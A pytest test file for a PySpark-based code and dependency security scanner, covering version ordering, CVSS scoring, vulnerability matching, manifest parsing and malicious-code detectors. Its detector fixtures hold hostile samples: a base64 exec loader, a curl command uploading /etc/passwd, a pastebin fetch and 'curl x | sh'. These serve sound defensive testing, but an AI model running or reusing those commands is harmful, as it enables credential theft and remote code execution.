"""Operators on small fixtures."""

import gzip
import io
import json
import pickle
import random
import tarfile
import zipfile

import pytest
from pyspark.sql import functions as F

from tallyward.functions import cvss, text, versions
from tallyward.operators import detectors, findings, grade, graph, history, names, packages, sca
from tallyward.sources import readers, sinks
from tallyward.streaming import events


def ordered_keys(spark, key, texts):
    rows = spark.createDataFrame(list(enumerate(texts)), "n int, v string").select("n", key(F.col("v")).alias("k")).collect()
    return [r.k for r in sorted(rows)]


def test_pep440_order(spark):
    ordered = ["1.0.dev1", "1.0a1.dev2", "1.0a1", "1.0b2", "1.0rc1", "1.0", "1.0+abc", "1.0+abc.2", "1.0+1", "1.0.post1.dev3", "1.0.post1", "1.0.1", "1.2", "1.10", "2.0", "12345678901234567890.1", "1!0.1"]
    keys = ordered_keys(spark, versions.pep440, ordered)
    assert keys == sorted(keys) and len(set(keys)) == len(keys)
    same = ordered_keys(spark, versions.pep440, ["1.0", "1.0.0", " v1 ", "1.00"])
    assert len(set(same)) == 1
    assert ordered_keys(spark, versions.pep440, ["latest", "1" * 200, "2.*", "", None, "1..2"]) == [None] * 6
    assert len(set(ordered_keys(spark, versions.pep440, ["1.0-1", "1.0.post1", "1.0rev1", "1.0-r1"]))) == 1


def test_semantic_order(spark):
    ordered = ["1.0.0-1", "1.0.0-2", "1.0.0-10", "1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.0.1", "1.2.0", "1.10.0"]
    keys = ordered_keys(spark, versions.semantic, ordered)
    assert keys == sorted(keys) and len(set(keys)) == len(keys)
    assert len(set(ordered_keys(spark, versions.semantic, ["v1.0", "1", "=1.0.0", "1.0.0+build.5"]))) == 1
    assert ordered_keys(spark, versions.semantic, ["latest", "1.0rc1", "x", None]) == [None] * 4


def test_release_key(spark):
    df = spark.createDataFrame([(v,) for v in ("1.0", "1.0.0", "1.2", "1.10", "01.2", "x", None, "0")], "v string").select("v", versions.release_key(F.col("v")).alias("k"))
    k = {r.v: r.k for r in df.collect()}
    assert k["1.0"] == k["1.0.0"] < k["1.2"] < k["1.10"] and k["01.2"] == k["1.2"] and k["x"] is None and k[None] is None and k["0"] is not None


@pytest.mark.parametrize(("vector", "score"), [("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 9.8), ("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", 6.1), ("CVSS:3.0/AV:L/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:N", 0.0), ("nonsense", None), ("CVSS:3.1/AV:N/AV:L/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", None), ("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:X/C:H/I:H/A:H", None), ("CVSS:2.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", None), (None, None)])
def test_cvss(spark, vector, score):
    assert spark.range(1).select(cvss.base_score(F.lit(vector)).alias("s")).first().s == score


def test_three_valued_match(spark):
    ranges = [("C-1", "pypi", "a", "0.5", True, "1.5", False), ("C-1", "pypi", "a", "3", True, None, False), ("C-2", "pypi", "a", "latest", True, "1.0", True), ("C-3", "pypi", "a", "*", True, "", True), ("C-4", "npm", "b", None, True, "1.0.0", False), ("C-5", "go", "c", "v1.2.3-beta.1", False, "1.2.3", False), ("C-6", "pypi", "a", "1.0", True, "1.0", True)]
    affected = spark.createDataFrame(ranges, "cve string, ecosystem string, name_key string, low_version string, low_included boolean, high_version string, high_included boolean")
    have = [("pypi", "a", "A", v) for v in ("1.0", "2.0", "latest", None, "1.5rc1", "1.5", "1.0+ubuntu1", "0.5.dev1")] + [("npm", "b", "B", v) for v in ("1.0.0-rc.1", "1.0.0", "1.0.0+x")] + [("go", "c", "C", v) for v in ("v1.2.3-beta.2", "1.2.3-beta", "1.2rc1")]
    inventory = spark.createDataFrame(have, "ecosystem string, name_key string, name string, version string")
    matched = sca.match_inventory(inventory, affected)
    got = {(r.cve, r.version): r.verdict[0] for r in matched.collect()}
    assert {v: got["C-1", v] for v in ("1.0", "2.0", "latest", None, "1.5rc1", "1.5", "0.5.dev1")} == {"1.0": "A", "2.0": "C", "latest": "U", None: "U", "1.5rc1": "A", "1.5": "C", "0.5.dev1": "C"}
    assert {got["C-2", v] for v in ("1.0", "2.0", "latest")} == {"U"}  # the lower bound can't be compared
    assert {x for (c, _), x in got.items() if c == "C-3"} == {"A"}
    assert [got["C-4", v] for v in ("1.0.0-rc.1", "1.0.0", "1.0.0+x")] == ["A", "C", "C"]
    assert [got["C-5", v] for v in ("v1.2.3-beta.2", "1.2.3-beta", "1.2rc1")] == ["A", "C", "U"]
    assert got["C-6", "1.0+ubuntu1"] == "A"  # a bound without a label ignores the version's
    two = spark.createDataFrame([("C-7", "pypi", "a", "0", True, "1.5", False), ("C-7", "pypi", "z", "0", True, "9.0", False), ("C-7", "pypi", "a", "0", True, "1.5rc1", False)], affected.schema)
    hints = sca.fix_hint(sca.match_inventory(inventory, two), inventory, two).collect()
    assert {(r.cve, r.name, r.fixed_in) for r in hints} == {("C-7", "A", "1.5")}


def test_components_against_union_find(spark):
    rng = random.Random(4)
    edges = [(rng.randrange(300), rng.randrange(300)) for _ in range(220)] + [(k, k + 1) for k in range(1000, 1060)] + [(5, 5), (None, 3)]
    parent = {}

    def root(x):
        while parent.setdefault(x, x) != x:
            x = parent[x]
        return x

    for a, b in edges:
        if a is not None and a != b:
            parent[max(root(a), root(b))] = min(root(a), root(b))
    want = {x: root(x) for x in parent}
    for most in (0, 10**6):  # in rounds of all tasks, and in one task
        got = {r.node: r.component for r in graph.connected_components(spark.createDataFrame(edges, "src long, dst long"), task_edges=most).collect()}
        assert got == {k: v for k, v in want.items()}
    named = spark.createDataFrame([("b", "a"), ("c", "b"), ("x", "y")], "src string, dst string")
    assert {tuple(r) for r in graph.connected_components(named).collect()} == {("a", "a"), ("b", "a"), ("c", "a"), ("x", "x"), ("y", "x")}
    assert graph.connected_components(named.limit(0)).count() == 0


def test_cap_and_dedupe(spark):
    f = spark.createDataFrame([("r", k, k % 3) for k in range(10)], "rule string, line long, m long")
    capped = findings.cap(f, ["rule"], ["line"], 4).collect()
    assert [r.line for r in capped] == [0, 1, 2, 3] and [r.omitted for r in capped] == [0, 0, 0, 6]
    assert sorted(r.line for r in findings.dedupe(f, ["rule", "m"], "line").collect()) == [0, 1, 2]


def test_flood_is_the_fullest_window_around(spark):
    rows = [("a", f"2024-01-01 {h:02d}:00:00") for h in range(10)] + [("a", "2024-01-03 00:00:00")]
    df = spark.createDataFrame(rows, "k string, t string").withColumn("t", F.to_timestamp("t"))
    got = [(r.most, r.flood) for r in history.flood(df, "k", "t", 9).orderBy("t").collect()]
    assert got == [(10, True)] * 10 + [(1, False)]


def test_lookalikes(spark):
    n = spark.createDataFrame([(x,) for x in ("reqeusts", "requets", "request", "requests", "flask", "fla", "")], "name string")
    t = spark.createDataFrame([("requests", 1), ("flasks", 2)], "target string, rank int")
    assert {r.name: r.target for r in names.lookalikes(n, t).collect()} == {"reqeusts": "requests", "requets": "requests", "request": "requests", "flask": "flasks"}


def test_duplicate_windows_overlap_once(spark):
    block = "\n".join(f"l{k}" for k in range(7))
    df = spark.createDataFrame([(1, block), (2, "x\n" + block + "\n\ny"), (3, "a\nb"), (4, ""), (5, None)], "doc_id long, text string")
    got = {r.doc_id: (r.measured, r.duplicated) for r in grade.duplication(df).collect()}
    assert got[1] == (7, 7) and got[2] == (9, 7) and got[3] == (2, 0) and got[4] == (0, 0)


def test_entropy_and_rounding(spark):
    df = spark.createDataFrame([("aabbc",), ("",), ("aaaa",)], "t string").select("t", F.round(text.entropy(F.col("t")), 6).alias("e"))
    assert {r.t: r.e for r in df.collect()} == {"aabbc": 1.521928, "": 0.0, "aaaa": 0.0}
    v = spark.createDataFrame([(x,) for x in (0.25, 0.35, 0.45)], "v double").select(text.round_half_even_on_binary("v").alias("r"))
    assert [r.r for r in v.collect()] == [0.2, 0.3, 0.5]


def test_manifests():
    of = readers.inventory_of
    assert of("a/requirements.txt", "Flask==2.0 # x\n-r other\nnumpy>=1\n") == [("pypi", "flask", "2.0"), ("pypi", "numpy", None)]
    assert of("package-lock.json", json.dumps({"packages": {"": {}, "node_modules/a/node_modules/@b/c": {"version": "1.2.3"}}})) == [("npm", "@b/c", "1.2.3")]
    assert of("Cargo.lock", '[[package]]\nname = "serde"\nversion = "1.0.1"\n') == [("crates", "serde", "1.0.1")]
    assert of("go.mod", "module x\nrequire (\n\tgolang.org/x/net v0.1.0\n)\n") == [("go", "golang.org/x/net", "v0.1.0")]
    assert of("setup.py", "setup(install_requires=['six==1.16.0'])") == [("pypi", "six", "1.16.0")]
    assert of("package-lock.json", "{") == []


def test_archives(spark):
    z, t = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(z, "w") as f:
        f.writestr("a.py", "print(1)")
    with tarfile.open(fileobj=t, mode="w:gz") as f:
        info = tarfile.TarInfo("b.txt")
        info.size = 2
        f.addfile(info, io.BytesIO(b"hi"))
    rows = [("x.zip", z.getvalue()), ("y.tgz", t.getvalue()), ("z.gz", gzip.compress(b"q")), ("n", b"none")]
    got = {(r.path, r.member): (bytes(r.content or b""), r.problem) for r in readers.read_archives(spark.createDataFrame(rows, "path string, content binary")).collect()}
    assert got[("x.zip", "a.py")][0] == b"print(1)" and got[("y.tgz", "b.txt")][0] == b"hi" and got[("z.gz", "z")][0] == b"q" and got[("n", "n")][1] == "not an archive"


def test_text_readers():
    assert readers.python_sinks("import os\nos.system(x)\neval('1')\n") == [(2, "os.system", "CMD", True), (3, "eval", "CODE", False)]
    assert readers.tainted_lines("a = input()\nb = a\nb2 = int(a)\nos.system(b)\nos.system(b2)\n") == [4]
    assert readers.pickle_imports(pickle.dumps(print)) == ["builtins.print"]
    assert readers.unpinned_actions("- uses: a/b@v1\n- uses: a/b@" + "0" * 40) == [(1, "a/b@v1")]
    assert readers.shell_commands("curl x | sh; echo 'a b'") == [["curl", "x"], ["sh"], ["echo", "a b"]]


def test_tree_and_sarif(spark, tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("x = 1\n")
    (tmp_path / "src" / "b").write_bytes(b"\x7fELF\x00")
    got = {r.path.rsplit("/", 1)[1]: (r.kind, r.language) for r in readers.read_tree(spark, str(tmp_path)).collect()}
    assert got == {"a.py": ("text", "python"), "b": ("binary", None)}
    f = spark.createDataFrame([("s", 1, 2, "R", "MAJOR")], "source string, doc_id long, line_no long, rule string, severity string")
    doc = json.loads(sinks.sarif(f, "tallyward").first().sarif)
    assert doc["runs"][0]["results"][0]["ruleId"] == "R" and doc["version"] == "2.1.0"


def test_upsert(spark):
    old = spark.createDataFrame([(1, 1, "a"), (2, 5, "b")], "k int, v int, x string")
    new = spark.createDataFrame([(1, 2, "c"), (2, 5, "d"), (3, 1, "e")], "k int, v int, x string")
    assert sorted(tuple(r) for r in sinks.upserted(old, new, ["k"], "v").collect()) == [(1, 2, "c"), (2, 5, "d"), (3, 1, "e")]


def test_streams(spark, tmp_path):
    rows = [(1, "2024-01-01 00:00:00", False), (2, "2024-01-01 00:10:00", True), (1, "2024-01-01 00:00:00", False), (9, "2024-01-08 00:00:00", False)]
    schema = "user_id long, ts timestamp, ready boolean"
    df = spark.createDataFrame(rows, "user_id long, ts string, ready boolean").withColumn("ts", F.to_timestamp("ts"))
    for k, part in enumerate((df.filter("ts < '2024-01-02'"), df.filter("ts > '2024-01-02'"), df.filter("ts > '2024-01-02'"))):
        part.coalesce(1).write.parquet(str(tmp_path / f"in/b{k}"))
    stream = spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).option("recursiveFileLookup", "true").parquet(str(tmp_path / "in"))

    def run(out, name):
        q = out.writeStream.format("memory").queryName(name).outputMode("append").option("checkpointLocation", str(tmp_path / name)).trigger(availableNow=True).start()
        q.awaitTermination()
        return spark.table(name).collect()

    assert {r.user_id for r in run(events.first_seen(stream, ["user_id"]), "seen")} == {1, 2, 9}
    assert sum(r.n for r in run(events.tumbling(stream), "hours")) >= 3
    states = {(r.user_id, r.state) for r in run(events.recheck(stream), "recheck")}
    assert {(1, "waiting"), (2, "scanned")} <= states and any(u == 1 and s in ("rechecked", "dropped") for u, s in states)


def test_snippets_send_nothing_to_the_driver(spark):
    """Lines that are made from rows look small to Spark: neither they nor the findings may be broadcast."""
    from tallyward.plans.every import QUERIES

    plan = lambda df: df._jdf.queryExecution().executedPlan().toString()
    made = plan(QUERIES["finding_snippets"](spark, "/root/testdata/sf0.001"))
    assert "Join" not in made and "Exchange" not in made and "Window" not in made
    files = spark.createDataFrame([(1, "a.sh", "sh", "exec(b64decode(x))"), (2, "b.py", "py", "x\n\ncurl -F f=@/etc/passwd " + "y" * 90 + "\ndebugger\nimport a\nget('https://pastebin.com/raw/abc')"), (3, "c.py", "py", None)], "file_id long, path string, lang string, text string")
    apart = detectors.with_window(detectors.detect(files), text.lines(files.select("file_id", "text")))
    assert "Broadcast" not in plan(apart)
    rows = lambda df: sorted(tuple(r) for r in df.select("file_id", "line_no", "rule", "snippet", "around").collect())
    got = rows(detectors.with_snippet(detectors.detect(files, around=2)))
    assert got == rows(apart) and [(r[0], r[1], len(r[3]), r[4]) for r in got] == [(1, 1, 18, 1), (2, 3, 80, 5), (2, 6, 35, 3)]


def test_merged_ranges_do_not_depend_on_repeats(spark):
    """Ranges that many rows repeat give what each of them once gives: every value that some range covers."""
    rng = random.Random(5)
    once = list({(k, low, low + rng.randint(0, 4)) for k in range(20) for low in rng.sample(range(60), 12)})
    rows = [r for r in once for _ in range(rng.randint(1, 9))]
    rng.shuffle(rows)
    got = packages.merged_ranges(spark.createDataFrame(rows, "k long, low long, high long").repartition(7), ["k"]).collect()
    want = []
    for k in range(20):
        covered = sorted({x for key, low, high in once if key == k for x in range(low, high)})
        heads = [x for x in covered if x - 1 not in covered]
        want += [(k, x, next(y for y in range(x, 99) if y not in covered)) for x in heads]
    assert sorted(map(tuple, got)) == sorted(want)
